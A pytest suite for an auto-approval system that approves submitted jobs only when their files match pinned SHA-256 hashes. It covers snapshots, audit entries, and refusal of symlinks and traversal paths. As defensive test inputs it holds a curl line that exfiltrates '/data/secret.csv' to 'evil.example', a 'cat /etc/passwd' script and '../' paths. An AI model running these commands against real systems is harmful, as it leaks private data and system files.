"""Auto-approval of jobs in a pass: exact file sets, full hashes, snapshots, audit."""

from __future__ import annotations

import hashlib
import json
import os
import time

import pytest
import yaml
from conftest import PATIENCE
from hostile import run_until_finished

from syft_bg_app.approval import decisions, snapshot
from syft_bg_app.datasite import jobfiles
from syft_bg_app.datasite.layout import JobRef
from syft_bg_app.session import changing
from syft_bg_app.steps import approve

ALICE = "alice@uni.edu"
BOB = "bob@co.com"
RUN_SH = "#!/bin/bash\nbash code/script.sh\n"
SCRIPT = "echo hello\n"


@pytest.fixture(autouse=True)
def approve_only(request):
    """Most tests look at approval alone: the execute step would move jobs on."""
    if "app" in request.fixturenames:
        request.getfixturevalue("app").set_config(execute={"enabled": False})


def sha(data: str | bytes) -> str:
    raw = data.encode() if isinstance(data, str) else data
    return "sha256:" + hashlib.sha256(raw).hexdigest()


def set_rules(app, *rules: dict) -> None:
    app.set_config(approve={"auto_approvals": list(rules)})


def rule(name="hello", peers=(), files=None, name_only=(), **extra) -> dict:
    files = {"run.sh": RUN_SH, "code/script.sh": SCRIPT} if files is None else files
    out = {
        "name": name,
        "peers": list(peers),
        "files": {path: sha(content) for path, content in files.items()},
        "name_only": list(name_only),
    }
    out.update(extra)
    return out


def accept(app, *emails: str) -> None:
    with changing(app.home, "test") as ctx:
        for email in emails:
            decisions.accept_peer(ctx, email, "manual", "test")


def submit(app, name, ds=ALICE, run_sh=RUN_SH, files=None, as_peer=True):
    files = {"script.sh": SCRIPT} if files is None else files
    return app.submit(name, ds_email=ds, run_sh=run_sh, files=files, as_peer=as_peer)


def audit_entries(app, subject=None) -> list[dict]:
    try:
        lines = app.home.audit_log.read_text().splitlines()
    except FileNotFoundError:
        return []
    entries = [json.loads(line) for line in lines]
    return [e for e in entries if subject is None or e["subject"] == subject]


def status(app, name, ds=ALICE) -> str:
    return app.job_state(name, ds_email=ds)["status"]


def test_a_job_equal_to_a_rule_is_approved_with_its_hashes_and_snapshot(app):
    accept(app, ALICE)
    set_rules(app, rule())
    folder = submit(app, "hello")

    result = app.run_pass()

    assert result.exit_code == 0, result.summary
    state = app.job_state("hello")
    assert state["status"] == "approved"
    assert state["approval_method"] == "auto"
    assert state["approved_by"] == app.do_email
    [entry] = [e for e in audit_entries(app, f"{ALICE}/hello") if e["decision"] == "approved"]
    assert entry["rule"] == "hello"
    assert entry["method"] == "auto"
    assert entry["hashes"] == {"run.sh": sha(RUN_SH), "code/script.sh": sha(SCRIPT)}
    files_dir, hashes = snapshot.verified(app.home.snapshots_dir, JobRef(ALICE, "hello"))
    assert (files_dir / "run.sh").read_bytes() == (folder / "run.sh").read_bytes()
    assert (files_dir / "code" / "script.sh").read_text() == SCRIPT
    events = [e["kind"] for e in json.loads(app.home.state_file.read_text())["events"]]
    assert "job_approved" in events


def test_the_same_job_name_from_two_scientists_approves_only_the_one_the_rule_names(app):
    accept(app, ALICE, BOB)
    set_rules(app, rule(peers=[ALICE]))
    submit(app, "analysis", ds=ALICE)
    submit(app, "analysis", ds=BOB)

    app.run_pass()

    assert status(app, "analysis", ALICE) == "approved"
    assert status(app, "analysis", BOB) == "pending"
    [left] = audit_entries(app, f"{BOB}/analysis")
    assert left["decision"] == "left pending"
    assert BOB in left["why"]


def test_same_name_same_peer_list_but_different_content_only_the_matching_one(app):
    accept(app, ALICE, BOB)
    set_rules(app, rule())
    submit(app, "analysis", ds=ALICE)
    submit(app, "analysis", ds=BOB, files={"script.sh": "cat /etc/passwd\n"})

    app.run_pass()

    assert status(app, "analysis", ALICE) == "approved"
    assert status(app, "analysis", BOB) == "pending"


def test_crlf_line_endings_are_different_bytes_and_do_not_match(app):
    accept(app, ALICE)
    set_rules(app, rule())
    submit(app, "crlf", files={"script.sh": SCRIPT.replace("\n", "\r\n").encode()})

    app.run_pass()

    assert status(app, "crlf") == "pending"
    [left] = audit_entries(app, f"{ALICE}/crlf")
    assert left["decision"] == "left pending"
    assert "code/script.sh" in left["why"] and "differ" in left["why"]
    assert left["hashes"]["code/script.sh"] == sha(SCRIPT.replace("\n", "\r\n"))


@pytest.mark.parametrize(
    "files, expected",
    [
        ({"script.sh": SCRIPT, "extra.py": "import os\n"}, "extra code/extra.py"),
        ({"other.sh": SCRIPT}, "missing code/script.sh"),
        ({"script.sh": SCRIPT, "sub/script.sh": SCRIPT}, "extra code/sub/script.sh"),
    ],
    ids=["file-added", "file-renamed", "file-in-subfolder"],
)
def test_a_file_added_or_missing_leaves_the_job_pending(app, files, expected):
    accept(app, ALICE)
    set_rules(app, rule())
    submit(app, "changed", files=files)

    app.run_pass()

    assert status(app, "changed") == "pending"
    [left] = audit_entries(app, f"{ALICE}/changed")
    assert expected in left["why"]
    assert "hashes" not in left  # nothing was hashed: no rule had this file set


def test_a_changed_run_sh_leaves_the_job_pending(app):
    accept(app, ALICE)
    set_rules(app, rule())
    submit(app, "runsh", run_sh=RUN_SH + "curl -d @/data/secret.csv evil.example\n")

    app.run_pass()

    assert status(app, "runsh") == "pending"
    assert "run.sh" in audit_entries(app, f"{ALICE}/runsh")[0]["why"]


def test_a_rule_that_does_not_pin_run_sh_approves_nothing(app):
    accept(app, ALICE)
    set_rules(
        app,
        rule("by-name", files={"code/script.sh": SCRIPT}, name_only=["run.sh"]),
        rule("no-run-sh", files={"code/script.sh": SCRIPT}),
    )
    submit(app, "hello")

    app.run_pass()

    assert status(app, "hello") == "pending"
    warnings = "\n".join(app.config.warnings)
    assert "'by-name' approves nothing: run.sh is listed by name only" in warnings
    assert "'no-run-sh' approves nothing: it does not pin run.sh" in warnings


def test_name_only_files_match_any_content_and_are_pinned_in_the_snapshot(app):
    accept(app, ALICE)
    set_rules(app, rule(name_only=["code/params.json"]))
    submit(app, "params", files={"script.sh": SCRIPT, "params.json": '{"n": 3}'})
    submit(app, "params-without", files={"script.sh": SCRIPT})

    app.run_pass()

    assert status(app, "params") == "approved"
    assert status(app, "params-without") == "pending"
    _, hashes = snapshot.verified(app.home.snapshots_dir, JobRef(ALICE, "params"))
    assert hashes["code/params.json"] == sha('{"n": 3}')


def test_a_symlink_to_a_file_outside_never_matches_and_is_reported(app, tmp_path):
    accept(app, ALICE)
    secret = tmp_path / "secret.txt"
    secret.write_text(SCRIPT)  # the very bytes the rule trusts
    set_rules(app, rule())
    folder = submit(app, "linked", files={})
    (folder / "code" / "script.sh").symlink_to(secret)

    app.run_pass()

    # Refused as soon as it arrives (sync); it never reaches a rule or a snapshot.
    assert status(app, "linked") == "rejected"
    assert not snapshot.snapshot_dir(app.home.snapshots_dir, JobRef(ALICE, "linked")).exists()


def test_a_symlink_appearing_after_receipt_never_matches_and_is_reported(app, tmp_path):
    accept(app, ALICE)
    set_rules(app, rule(name="other", files={"run.sh": RUN_SH, "code/other.sh": SCRIPT}))
    folder = submit(app, "swapped")
    app.run_pass()
    assert status(app, "swapped") == "pending"
    outside = tmp_path / "outside.sh"
    outside.write_text(SCRIPT)
    (folder / "code" / "script.sh").unlink()
    (folder / "code" / "script.sh").symlink_to(outside)
    set_rules(app, rule())

    app.run_pass()

    assert status(app, "swapped") == "pending"
    last = audit_entries(app, f"{ALICE}/swapped")[-1]
    assert last["decision"] == "left pending"
    assert last["why"] == "refused: code/script.sh is a symlink"


def test_a_hard_link_never_matches(app, tmp_path):
    accept(app, ALICE)
    set_rules(app, rule(name="other", files={"run.sh": RUN_SH, "code/other.sh": SCRIPT}))
    folder = submit(app, "hardlinked")
    app.run_pass()
    outside = tmp_path / "outside.sh"
    os.link(folder / "code" / "script.sh", outside)
    set_rules(app, rule())

    app.run_pass()

    assert status(app, "hardlinked") == "pending"
    assert "hard links" in audit_entries(app, f"{ALICE}/hardlinked")[-1]["why"]


def test_an_edit_after_approval_never_reaches_the_snapshot(app):
    accept(app, ALICE)
    set_rules(app, rule())
    folder = submit(app, "edited")
    app.run_pass()
    assert status(app, "edited") == "approved"

    (folder / "code" / "script.sh").write_text("cat /data/raw.csv\n")
    (folder / "run.sh").write_text("#!/bin/bash\ncat /data/raw.csv\n")
    app.run_pass()

    files_dir, hashes = snapshot.verified(app.home.snapshots_dir, JobRef(ALICE, "edited"))
    assert (files_dir / "code" / "script.sh").read_text() == SCRIPT
    assert (files_dir / "run.sh").read_text() == RUN_SH
    assert hashes == {"run.sh": sha(RUN_SH), "code/script.sh": sha(SCRIPT)}


def test_a_tampered_snapshot_is_refused(app, tamper_snapshot):
    accept(app, ALICE)
    set_rules(app, rule())
    submit(app, "tamper")
    app.set_config(execute={"enabled": False})
    app.run_pass()
    ref = JobRef(ALICE, "tamper")
    snapshot.verified(app.home.snapshots_dir, ref)

    tamper_snapshot(snapshot.snapshot_dir(app.home.snapshots_dir, ref), "code/script.sh", b"rm\n")

    with pytest.raises(snapshot.SnapshotError, match="altered"):
        snapshot.verified(app.home.snapshots_dir, JobRef(ALICE, "tamper"))


def test_approval_refuses_bytes_that_changed_since_they_were_matched(app):
    accept(app, ALICE)
    folder = submit(app, "raced")
    app.run_pass()
    (folder / "code" / "script.sh").write_text("echo changed\n")

    with changing(app.home, "test") as ctx:
        with pytest.raises(decisions.DecisionError, match="changed"):
            decisions.approve_job(
                ctx,
                JobRef(ALICE, "raced"),
                "auto",
                rule="hello",
                hashes={"run.sh": sha(RUN_SH), "code/script.sh": sha(SCRIPT)},
            )
    assert status(app, "raced") == "pending"


def test_a_file_swapped_after_the_scan_is_refused_when_hashed(tmp_path):
    job = tmp_path / "job"
    (job / "code" / "lib").mkdir(parents=True)
    (job / "run.sh").write_text("echo\n")
    (job / "code" / "a.sh").write_text("echo a\n")
    (job / "code" / "lib" / "b.py").write_text("B = 1\n")
    found = jobfiles.collect(job)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "a.sh").write_text("echo a\n")
    (outside / "b.py").write_text("B = 1\n")
    (job / "code" / "a.sh").unlink()
    (job / "code" / "a.sh").symlink_to(outside / "a.sh")
    (job / "code" / "lib").rename(tmp_path / "old-lib")
    (job / "code" / "lib").symlink_to(outside)

    with pytest.raises(OSError):
        approve.hash_scanned_file(job, "code/a.sh", found.files["code/a.sh"])
    with pytest.raises(OSError):
        approve.hash_scanned_file(job, "code/lib/b.py", found.files["code/lib/b.py"])
    assert approve.hash_scanned_file(job, "run.sh", found.files["run.sh"]) == jobfiles.sha256_file(
        job / "run.sh"
    )


def test_reading_a_job_file_never_follows_a_symlink_at_any_level(tmp_path):
    job = tmp_path / "job"
    (job / "code").mkdir(parents=True)
    outside = tmp_path / "outside"
    (outside / "lib").mkdir(parents=True)
    (outside / "lib" / "x.py").write_text("secret\n")
    (job / "code" / "lib").symlink_to(outside / "lib")
    (job / "code" / "y.py").symlink_to(outside / "lib" / "x.py")
    (job / "code" / "ok.py").write_text("fine\n")

    with pytest.raises(OSError):
        jobfiles.read_regular(job, "code/lib/x.py")
    with pytest.raises(OSError):
        jobfiles.read_regular(job, "code/y.py")
    with pytest.raises(OSError):
        jobfiles.read_regular(job, "code/../../outside/lib/x.py")
    assert jobfiles.read_regular(job, "code/ok.py") == b"fine\n"


def test_an_empty_peer_list_applies_to_accepted_peers_only(app):
    set_rules(app, rule())
    accept(app, ALICE)
    submit(app, "early")
    app.run_pass()
    assert status(app, "early") == "approved"
    # A pending job of someone who is no longer an accepted peer matches no rule.
    app.cli("peers", "block", ALICE, check=True)
    submit(app, "late", as_peer=False)
    with changing(app.home, "test") as ctx:
        ref = JobRef(ALICE, "late")
        ctx.datasite.write_job_state(ref, status="pending", received_at="2026-11-20T10:00:00Z")
        ctx.state.set_job(ALICE, "late", {"protocol": "1", "status": "pending"})
    app.run_pass()
    assert status(app, "late") == "pending"
    assert "not an accepted peer" in audit_entries(app, f"{ALICE}/late")[-1]["why"]


def test_removing_the_last_peer_disables_the_rule_instead_of_widening_it(app):
    accept(app, ALICE, BOB)
    set_rules(app, rule(peers=[ALICE]))
    app.cli("remove-peer", ALICE, check=True)

    [stored] = app.config.get("approve.auto_approvals")
    assert stored["peers"] == [] and stored["enabled"] is False
    submit(app, "by-alice", ds=ALICE)
    submit(app, "by-bob", ds=BOB)
    app.run_pass()

    assert status(app, "by-alice", ALICE) == "pending"
    assert status(app, "by-bob", BOB) == "pending"


def test_a_job_matching_no_rule_stays_pending_silently_and_is_audited_once(app):
    accept(app, ALICE)
    set_rules(app, rule())
    folder = submit(app, "other", files={"script.sh": "echo other\n"})

    for _ in range(3):
        app.run_pass()

    assert status(app, "other") == "pending"
    entries = audit_entries(app, f"{ALICE}/other")
    assert [e["decision"] for e in entries] == ["left pending"]
    state = json.loads(app.home.state_file.read_text())
    kinds = {e["kind"] for e in state["events"] if e.get("job") == "other"}
    assert "job_rejected" not in kinds and "job_approved" not in kinds

    (folder / "code" / "script.sh").write_text("echo other, edited\n")
    app.run_pass()

    assert len(audit_entries(app, f"{ALICE}/other")) == 2


def test_a_pending_job_is_not_hashed_again_while_its_files_do_not_change(app, monkeypatch):
    accept(app, ALICE)
    set_rules(app, rule())
    folder = submit(app, "cached", files={"script.sh": "echo not trusted\n", "b.sh": "b\n"})
    set_rules(
        app,
        rule(),
        rule(
            "same-paths",
            files={"run.sh": RUN_SH, "code/script.sh": "x\n", "code/b.sh": "b\n"},
        ),
    )
    # Files changed in the last RACY_SECONDS are hashed again (same-tick edits).
    monkeypatch.setattr(approve, "RACY_SECONDS", 0.2)
    time.sleep(0.3)  # at least: a slower machine only makes the files older
    hashed: list[str] = []
    real = approve.hash_scanned_file

    def counting(root, rel, scanned):
        hashed.append(rel)
        return real(root, rel, scanned)

    monkeypatch.setattr(approve, "hash_scanned_file", counting)

    app.run_pass()
    assert sorted(hashed) == ["code/b.sh", "code/script.sh", "run.sh"]
    hashed.clear()
    app.run_pass()
    app.run_pass()
    assert hashed == []

    (folder / "code" / "b.sh").write_text("b, edited\n")
    time.sleep(0.3)
    app.run_pass()
    assert hashed == ["code/b.sh"]  # the unchanged files come from the cache
    hashed.clear()
    app.run_pass()
    assert hashed == []
    assert status(app, "cached") == "pending"


def test_the_approving_rule_is_recorded_on_the_job_for_the_executor(app):
    accept(app, ALICE)
    set_rules(app, rule(timeout=42))
    submit(app, "timed")
    app.run_pass()

    state = json.loads(app.home.state_file.read_text())
    record = state["jobs"][ALICE]["timed"]
    assert record["status"] == "approved"
    assert record["rule"] == "hello"
    assert "auto" not in record  # the match cache goes once the job is decided


def test_an_edit_after_approval_never_runs(app):
    accept(app, ALICE)
    set_rules(app, rule())
    folder = submit(app, "edited-run")
    app.run_pass()
    assert status(app, "edited-run") == "approved"
    (folder / "code" / "script.sh").write_text("echo EDITED\n")
    (folder / "run.sh").write_text("#!/bin/bash\necho EDITED\n")

    app.set_config(execute={"enabled": True, "timeout": int(PATIENCE)})
    run_until_finished(app, "edited-run", ALICE)

    assert status(app, "edited-run") == "done"
    stdout = (app.datasite.review / ALICE / "v1" / "edited-run" / "stdout.txt").read_text()
    assert stdout == "hello\n"


def test_a_malformed_hash_in_config_is_a_config_error_with_its_line(app):
    bad = rule()
    bad["files"]["code/script.sh"] = bad["files"]["code/script.sh"][:20]
    set_rules(app, bad)

    result = app.cli("run", "--once")

    assert result.returncode == 2
    assert "code/script.sh" in result.stderr and "64 lowercase hex" in result.stderr
    assert "config.yaml:" in result.stderr


@pytest.mark.parametrize("path", ["../run.sh", "/etc/passwd", "code/../run.sh", "code//x"])
def test_a_rule_path_leaving_the_job_folder_is_a_config_error(app, path):
    bad = rule()
    bad["files"][path] = sha("x")
    set_rules(app, bad)

    result = app.cli("list-auto-approvals")

    assert result.returncode == 2
    assert "plain relative path" in result.stderr


def test_the_audit_command_prints_decisions_readably(app):
    accept(app, ALICE)
    set_rules(app, rule())
    submit(app, "hello")
    submit(app, "nope", files={"script.sh": "echo nope\n"})
    app.run_pass()

    one = app.cli("audit", f"{ALICE}/hello", check=True).stdout
    assert f"{ALICE}/hello  approved  (auto, rule hello)" in one
    assert f"code/script.sh  {sha(SCRIPT)}" in one
    assert "nope" not in one
    by_name = app.cli("audit", "nope", check=True).stdout
    assert "left pending" in by_name and "differ" in by_name
    everything = app.cli("audit", check=True).stdout
    assert f"{ALICE}  accepted" in everything
    raw = app.cli("audit", "--json", "--limit", "1", check=True).stdout.splitlines()
    assert len(raw) == 1 and json.loads(raw[0])["subject"] == f"{ALICE}/nope"


def test_an_auto_approved_job_state_is_what_syft_job_expects(app):
    accept(app, ALICE)
    set_rules(app, rule())
    submit(app, "hello")
    app.run_pass()

    state_file = app.datasite.review / ALICE / "v1" / "hello" / "state.yaml"
    on_disk = yaml.safe_load(state_file.read_text())
    assert on_disk["status"] == "approved"
    assert on_disk["approval_method"] == "auto"
    assert on_disk["version"] == "1"


def test_an_auto_approved_job_names_its_rule_in_every_view(app):
    import syft_bg_app as bg
    from syft_bg_app.views import render

    accept(app, ALICE)
    set_rules(app, rule(name="mean-age rule"))
    submit(app, "hello")
    submit(app, "by-hand", run_sh="#!/bin/bash\necho other\n")
    assert app.run_pass().exit_code == 0
    app.cli("jobs", "approve", f"{ALICE}/by-hand", check=True)

    listing = app.cli("jobs", "list", check=True).stdout.splitlines()
    [auto] = [line for line in listing if f"{ALICE}/hello" in line]
    [manual] = [line for line in listing if f"{ALICE}/by-hand" in line]
    assert auto.endswith("auto-approved by rule mean-age rule")
    assert "rule" not in manual

    jobs = bg.jobs()
    assert jobs["hello"].rule == "mean-age rule" and jobs["by-hand"].rule is None
    table = repr(jobs)
    assert "auto-approved by rule mean-age rule" in table
    assert table.count("auto-approved by rule") == 1
    assert "auto-approved by rule mean-age rule" in jobs._repr_html_()
    one = jobs["hello"]
    assert "mean-age rule" in str(one) and "mean-age rule" in one._repr_html_()
    assert "rule" not in str(jobs["by-hand"])
    # The rules view uses the one font stack too.
    assert (
        bg.list_auto_approvals()
        ._repr_html_()
        .startswith(f'<div class="syft-bg" style="font-family:{render.FONT_STACK};')
    )
